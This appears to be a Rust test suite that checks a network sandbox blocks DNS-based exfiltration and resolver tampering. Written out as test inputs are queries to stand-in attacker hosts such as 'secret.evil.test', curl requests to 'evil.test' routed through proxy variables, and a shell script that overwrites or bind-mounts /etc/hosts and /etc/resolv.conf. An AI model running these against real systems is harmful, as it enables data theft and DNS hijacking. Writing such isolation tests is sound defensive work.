//! Questions as a channel: whichever resolver is asked, in whichever way, the sandbox's own answers, and asks nobody.

use opaque_tests::internet::{DNS, DNS6, EVIL, WEB, WEB6};
use opaque_tests::{Denial, each_identity_in_a_lab};

const OPEN: &[&str] = &["--allow-net", "api.example.test"];

#[test]
fn whichever_resolver_is_asked_the_sandboxes_own_answers() {
    each_identity_in_a_lab(|sandbox, lab| {
        let mut servers = vec![DNS.to_owned(), EVIL.to_owned(), "8.8.8.8".to_owned(), "198.18.0.1".to_owned()];
        if lab.has_ipv6() {
            servers.extend([format!("[{DNS6}]"), "[2001:4860:4860::8888]".to_owned()]);
        }
        let before = lab.after_a_twin(sandbox);
        let mut rows = Vec::new();
        for server in &servers {
            for transport in ["udp", "tcp"] {
                for (kind, name) in
                    [(1, "evil.test"), (28, "evil.test"), (16, "secret.evil.test"), (1, "api.example.test")]
                {
                    rows.push(format!("ask {transport} {server}:53 {kind} {name}"));
                }
            }
        }
        let attempted = lab.attempt(sandbox, OPEN, &rows);
        for attempt in &attempted.rows {
            let wanted =
                if attempt.row.contains("api.example") { "done code 0 answers 1" } else { "done code 3 answers 0" };
            assert_eq!(attempt.outcome, wanted, "{attempt:?}");
        }
        let blocked = attempted.blocked();
        assert!(blocked.contains(&"secret.evil.test dns: name not allowed".to_owned()), "{blocked:?}");
        assert_eq!(lab.after_a_twin(sandbox), before, "a question left");
        let twin = lab.attempt_outside(
            sandbox,
            &[format!("ask udp {DNS}:53 1 evil.test"), format!("ask tcp {DNS}:53 1 evil.test")],
        );
        assert_eq!(twin.all_done(), ["code 0 answers 1"; 2]);
        assert_eq!(lab.queries_for("evil.test"), 2);
    });
}

#[test]
fn other_ways_to_a_resolver_are_closed() {
    each_identity_in_a_lab(|sandbox, lab| {
        let closed = |target: &str| {
            let host = target.replace(['[', ']'], "");
            Denial::new(format!("say {target} ping"), "ECONNREFUSED", format!("{host} tcp: address not allowed"))
                .without_twin("such a server does not exist in the lab")
        };
        // Over HTTPS and over TLS, by address.
        let mut rows =
            vec![closed("1.1.1.1:443"), closed("8.8.8.8:443"), closed("9.9.9.9:853"), closed("25.1.0.53:853")];
        if lab.has_ipv6() {
            rows.push(
                Denial::new(
                    "say [2606:4700:4700::1111]:443 ping",
                    "ECONNREFUSED",
                    "2606:4700:4700::1111:443 tcp: address not allowed",
                )
                .without_twin("such a server does not exist in the lab"),
            );
        }
        let web = Denial::new(
            format!("hello {WEB}:443 dns.example.test 1 9999"),
            "ECONNREFUSED",
            format!("{WEB}:443 tcp: address not allowed"),
        );
        rows.push(web);
        lab.denies(sandbox, OPEN, &rows);
    });
}

#[test]
fn a_thousand_questions_of_every_kind_leave_nothing() {
    each_identity_in_a_lab(|sandbox, lab| {
        let before = lab.after_a_twin(sandbox);
        let rows = ["churn 1000 8.8.8.8:53 evil.test", "churn 1000 198.18.0.1:53 exfil.other.test"];
        let attempted = lab.attempt(sandbox, OPEN, &rows);
        assert_eq!(attempted.all_done(), ["1000", "1000"], "each is refused");
        let network = &attempted.ended.reported()["network"];
        let kept = network["blocked"].as_array().map(Vec::len).unwrap();
        assert_eq!((kept as u64) + network["more_blocked"].as_u64().unwrap(), 2000);
        assert_eq!(lab.after_a_twin(sandbox), before, "a question left");
        let twin = lab.attempt_outside(sandbox, &[format!("churn 7 {DNS}:53 evil.test")]);
        assert_eq!(twin.all_done(), ["7"]);
        assert_eq!(lab.queries().len(), before.1 + 7, "outside each question arrives");
    });
}

#[test]
fn a_lookup_of_an_open_name_asks_nobody_and_tells_only_synthetic_addresses() {
    each_identity_in_a_lab(|sandbox, lab| {
        let before = lab.after_a_twin(sandbox);
        let options = ["--allow-net", "*.example.test"];
        let mut rows = vec!["lookup api.example.test".to_owned(), "lookup made-up.example.test".to_owned()];
        rows.extend((0..50).map(|number| format!("lookup secret-{number}.example.test")));
        for addresses in lab.attempt(sandbox, &options, &rows).all_done() {
            for address in addresses.split(' ') {
                let is_synthetic =
                    ["198.18.", "198.19.", "fd6f:7061:7175:65:"].iter().any(|pool| address.starts_with(pool));
                assert!(is_synthetic, "{address}");
            }
        }
        assert_eq!(lab.after_a_twin(sandbox), before, "a lookup left");
        lab.attempt_outside(sandbox, &["lookup api.example.test"]).all_done();
        assert!(lab.queries().len() > before.1);
    });
}

#[test]
fn other_records_of_an_open_name_are_empty() {
    each_identity_in_a_lab(|sandbox, lab| {
        let kinds = [2, 5, 6, 10, 12, 15, 16, 33, 43, 64, 65, 255];
        let rows = kinds.map(|kind| format!("ask udp 198.18.0.1:53 {kind} api.example.test"));
        for (attempt, kind) in lab.attempt(sandbox, OPEN, &rows).rows.iter().zip(kinds) {
            assert_eq!(attempt.outcome, "done code 0 answers 0", "{kind}");
        }
        assert_eq!(lab.queries(), []);
    });
}

#[test]
fn holding_a_resolvers_port_captures_no_lookup() {
    each_identity_in_a_lab(|sandbox, lab| {
        let taken = ["udp 198.18.0.1:53", "udp 198.18.0.1:53 shared", "udp 0.0.0.0:53", "udp 0.0.0.0:53 shared"];
        let gate =
            ["tcp 127.0.0.1:65053", "tcp 127.0.0.1:65053 shared", "tcp 0.0.0.0:65053", "tcp 0.0.0.0:65053 shared"];
        let mut rows: Vec<String> = taken.iter().chain(&gate).map(|port| format!("stand-at {port}")).collect();
        if lab.has_ipv6() {
            let six = [
                "udp [fd6f:7061:7175:65::1]:53 shared",
                "udp [::]:53 shared",
                "tcp [::1]:65053 shared",
                "tcp [::]:65053 shared",
            ];
            rows.extend(six.map(|port| format!("stand-at {port}")));
        }
        for attempt in &lab.attempt(sandbox, OPEN, &rows).rows {
            assert_eq!(attempt.outcome, "refused EADDRINUSE", "{attempt:?}");
        }
        let beside = [
            "udp 127.0.0.1:53",
            "udp 127.0.0.1:53 shared",
            "tcp 127.0.0.1:53",
            "tcp 198.18.0.1:53 shared",
            "udp 127.0.0.53:53",
        ];
        let rows = beside.map(|port| format!("lookup-beside api.example.test {port}"));
        for found in lab.attempt(sandbox, OPEN, &rows).all_done() {
            assert!(found.contains("198.18.1.0"), "{found}");
        }
        // The twin: outside, somebody who may take such a port has it.
        lab.attempt_outside(sandbox, &["stand-at tcp 127.0.0.1:65053"]).all_done();
    });
}

#[test]
fn what_says_where_to_ask_cannot_be_changed() {
    each_identity_in_a_lab(|sandbox, lab| {
        let script = "for file in /etc/resolv.conf /etc/hosts /etc/nsswitch.conf; do
            (echo 25.1.0.11 api.example.test >> $file) 2>/dev/null && echo appended $file
            mv $file /tmp/away 2>/dev/null && echo moved $file
            rm -f $file 2>/dev/null && echo removed $file
            ln -sf /tmp/mine $file 2>/dev/null && echo linked $file
            echo 25.1.0.11 api.example.test > /tmp/mine
            mount --bind /tmp/mine $file 2>/dev/null && echo bound $file
        done
        unshare -rm true 2>/dev/null && echo unshared
        getent ahostsv4 api.example.test | head -n 1 | cut -d ' ' -f 1";
        let ended = lab.run(sandbox, [OPEN, &["--", "sh", "-c", script]].concat());
        assert_eq!(ended.text(), "198.18.1.0", "{ended}");
        let own =
            "echo 25.1.0.11 api.example.test > mine && echo 25.1.0.12 >> mine && mv mine away && rm away && echo done";
        assert_eq!(lab.outside(sandbox, ["sh", "-c", own]).text(), "done", "the same on a file of one's own");
    });
}

#[test]
fn a_proxy_in_the_environment_opens_nothing() {
    if opaque_tests::program("curl").is_none() {
        return opaque_tests::missing("curl");
    }
    each_identity_in_a_lab(|sandbox, lab| {
        let before = lab.after_a_twin(sandbox);
        for proxy in [format!("http://{WEB}:80"), "http://127.0.0.1:80".to_owned(), format!("http://[{WEB6}]:80")] {
            if proxy.contains("::") && !lab.has_ipv6() {
                continue;
            }
            let variables: Vec<String> =
                ["http_proxy", "https_proxy", "ALL_PROXY", "HTTP_PROXY"].map(|name| format!("{name}={proxy}")).to_vec();
            let mut words = OPEN.to_vec();
            words.extend(variables.iter().flat_map(|variable| ["--env", variable]));
            words.extend(["--", "curl", "-sS", "--max-time", "5", "http://evil.test/echo"]);
            let ended = lab.run(sandbox, words);
            assert_ne!(ended.code, Some(0), "{ended}");
        }
        assert_eq!((lab.after_a_twin(sandbox), lab.connections()), (before, vec![]));
        // The twin: outside the proxy is asked for the other host.
        let words = ["curl", "-sS", "--max-time", "5", "--proxy", &format!("http://{WEB}:80"), "http://evil.test/echo"];
        lab.outside(sandbox, words).expect(0);
        assert_eq!(lab.connections()[0].requests[0].host.as_deref(), Some("evil.test"));
    });
}
